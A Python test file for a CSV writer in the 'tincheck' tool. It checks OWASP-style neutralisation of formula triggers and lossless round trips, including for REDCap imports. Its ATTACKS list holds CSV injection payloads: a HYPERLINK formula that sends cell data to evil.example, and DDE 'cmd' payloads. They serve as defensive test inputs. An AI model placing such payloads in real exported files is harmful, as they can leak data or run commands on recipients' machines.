"""Every CSV tincheck writes neutralises formula triggers (OWASP), and tincheck reads
its own files back unchanged.

Peer for the rule: OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/
CSV_Injection): a cell beginning with =, +, -, @, tab or carriage return gets a single
quote before it, and the cell is quoted. Peer for the quoting: Python's csv module
(RFC 4180) parses every file written here back to the cells written.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

import tincheck
from tincheck import safecsv
from tincheck.cli import app
from tincheck.redcap import convert_redcap, example_paths, write_interviews
from tincheck.report.audit import metrics_csv
from tincheck.schema import TABLES

from .ingest.folders import copy_example, read_rows, write_rows

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-3", "-0.12"]


def parsed(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_beginning_with_a_formula_trigger_is_quoted_after_a_single_quote(value):
    data = safecsv.csv_bytes({"note": [value]})
    assert data == b'note\r\n"\'' + value.replace('"', '""').encode() + b'"\r\n'
    assert parsed(data)[1] == ["'" + value]
    assert safecsv.restore(parsed(data)[1][0]) == value


def test_other_cells_are_quoted_only_when_they_must_be():
    data = safecsv.csv_bytes({"a": ["R01", "a,b", 'say "x"', "two\nlines", None, ""],
                              "n": [1.5, 2.0, 10, None, 0.25, 3]})
    assert data.decode() == ('a,n\r\nR01,1.5\r\n"a,b",2\r\n"say ""x""",10\r\n'
                             '"two\nlines",\r\n,0.25\r\n,3\r\n')


def test_dates_booleans_and_negative_numbers_of_arrow_tables():
    table = pa.table({"d": [dt.date(2023, 1, 2), None], "b": [True, False],
                      "x": [-1.25, 4.0], "i": pa.array([-3, 7], pa.int64())})
    assert safecsv.csv_bytes(table, eol="\n").decode() == (
        "d,b,x,i\n2023-01-02,true,\"'-1.25\",\"'-3\"\n,false,4,7\n")


def test_a_header_that_is_a_formula_is_neutralised_too():
    assert safecsv.csv_bytes({"=cmd": ["x"]}).startswith(b'"\'=cmd"\r\n')


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.lists(st.lists(st.one_of(st.none(), st.text(max_size=12)), min_size=2,
                         max_size=2), min_size=1, max_size=8))
def test_property_every_cell_parses_back_and_none_begins_with_a_trigger(rows):
    columns = {"a": [r[0] for r in rows], "b": [r[1] for r in rows]}
    data = safecsv.csv_bytes(columns)
    back = parsed(data)
    assert back[0] == ["a", "b"] and len(back) == len(rows) + 1
    for written, cells in zip(rows, back[1:]):
        assert [safecsv.restore(c) for c in cells] == [v or "" for v in written]
        assert not any(c[:1] in safecsv.TRIGGERS and c for c in cells)


def test_metrics_csv_neutralises_negative_interval_bounds():
    doc = {"metrics": {"effect.phq9_d_z": {"label": "PHQ-9 d_z", "kind": "effect",
                                           "value": 0.05, "ci_low": -0.12, "ci_high": 0.22,
                                           "n": 40, "suppressed": False,
                                           "definition": "=1+1", "source": "tincheck"}},
           "tables": {}}
    text = metrics_csv(doc)
    assert text.splitlines()[1] == ("effect.phq9_d_z,PHQ-9 d_z,effect,0.05,\"'-0.12\",0.22,,,"
                                    "40,false,\"'=1+1\",tincheck")
    row = next(csv.DictReader(io.StringIO(text)))
    assert float(safecsv.restore(row["ci_low"])) == -0.12


# ------------------------------------------------------------------ round trips

def _canonical(folder) -> dict[str, list[tuple]]:
    with tincheck.read_dataset(folder) as data:
        return {t: data.connection.execute(f"SELECT * FROM {t} ORDER BY ALL").fetchall()
                for t in TABLES}


def _edit(folder, table, column, edit) -> None:
    header, rows = read_rows(folder / f"{table}.csv")
    i = header.index(column)
    for row in rows:
        row[i] = edit(row[i])
    write_rows(folder / f"{table}.csv", header, rows)


def test_canonical_tables_written_by_safecsv_read_back_unchanged(tmp_path):
    # values beginning with each trigger, in identifiers (joined across tables), free
    # text and a number ("-0" is a number a file can hold: usual_self_pct)
    source = copy_example(tmp_path / "source")
    for table, column in (("referrals", "referral_id"), ("appointments", "referral_id"),
                          ("measures", "referral_id"), ("interviews", "referral_id")):
        _edit(source, table, column, lambda v: "-" + v if v else v)
    _edit(source, "interviews", "assessor_id", lambda v: "=" + v)
    _edit(source, "referrals", "ethnicity", lambda v: "@" + v if v else v)
    for table in ("appointments", "therapists"):
        _edit(source, table, "therapist_id", lambda v: "+" + v if v else v)
    _edit(source, "interviews", "usual_self_pct", lambda v: "-0" if v == "0" else v)
    before = _canonical(source)
    assert before["referrals"][0][0].startswith("-") and any(
        r[5].startswith("=") for r in before["interviews"])

    written = tmp_path / "written"
    with tincheck.read_dataset(source) as data:
        for name in TABLES:
            safecsv.write_csv(written / f"{name}.csv",
                              data.connection.execute(f"SELECT * FROM {name}").fetch_arrow_table())
    raw = (written / "referrals.csv").read_text(encoding="utf-8")
    assert "\"'-R01\"" in raw and ",-R01," not in raw
    assert _canonical(written) == before


def test_import_redcap_output_is_read_by_audit_with_the_same_values(tmp_path):
    export, mapping = example_paths()
    edited = tmp_path / "export.csv"
    text = export.read_text(encoding="utf-8-sig")
    # assessors whose ids begin with formula triggers, as a hostile export might hold
    edited.write_text(text.replace(",AS1,", ",-AS1,").replace(",AS2,", ",=AS2,"),
                      encoding="utf-8")
    out = tmp_path / "interviews.csv"
    result = CliRunner().invoke(app, ["import-redcap", str(edited), "--mapping", str(mapping),
                                      "--out", str(out)])
    assert result.exit_code == 0, result.output
    raw = out.read_text(encoding="utf-8")
    assert "\"'-AS1\"" in raw and "\"'=AS2\"" in raw and ",=AS2," not in raw

    converted = convert_redcap(edited, mapping)
    folder = copy_example(tmp_path / "service")
    shutil.copy(out, folder / "interviews.csv")
    with tincheck.read_dataset(folder) as data:
        read = data.connection.execute(
            "SELECT interview_id, assessor_id, usual_self_pct FROM interviews "
            "ORDER BY source_row").fetchall()
    assert [r[0] for r in read] == converted["interview_id"].tolist()
    assert [r[1] for r in read] == converted["assessor_id"].tolist()
    assert {"-AS1", "=AS2"} <= {r[1] for r in read}
    assert [r[2] for r in read] == [None if v != v else v
                                    for v in converted["usual_self_pct"].tolist()]
    audited = CliRunner().invoke(app, ["audit", str(folder), "--out", str(tmp_path / "a"),
                                       "--imputations", "0"])
    assert audited.exit_code == 0, audited.output


def test_write_interviews_neutralises_what_it_writes(tmp_path):
    table = convert_redcap(*example_paths())
    table.loc[0, "assessor_id"] = "@SUM(A1)"
    lines = write_interviews(table, tmp_path / "i.csv").read_text(encoding="utf-8").splitlines()
    assert ",\"'@SUM(A1)\"," in lines[1]


def test_synthetic_csv_goes_through_the_same_writer(tmp_path):
    from tincheck.synth import generate

    folder = generate(tmp_path / "s", referrals=300, seed=3, format="csv")
    for name in TABLES:
        for row in parsed((folder / f"{name}.csv").read_bytes()):
            assert not any(c[:1] in safecsv.TRIGGERS and c for c in row), (name, row)
